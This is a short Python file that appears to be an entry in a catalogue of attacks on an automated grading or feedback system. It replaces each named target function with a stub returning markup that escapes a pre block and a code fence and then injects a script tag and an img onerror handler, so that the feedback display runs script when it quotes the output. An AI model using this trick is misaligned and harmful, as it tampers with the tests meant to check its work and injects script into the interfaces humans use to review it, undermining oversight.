# /// attack
# catalogue = "showing: script in output"
# layers = ["display"]
# aim = "markup"
# ///
# Answers hidden calls with text that is markup, which feedback quotes.

# %% answer
for name in TARGET["names"]:
    globals()[name] = lambda *args, **kwargs: "</pre>```\n<script>alert(1)</script><img src=x onerror=alert(2)>"
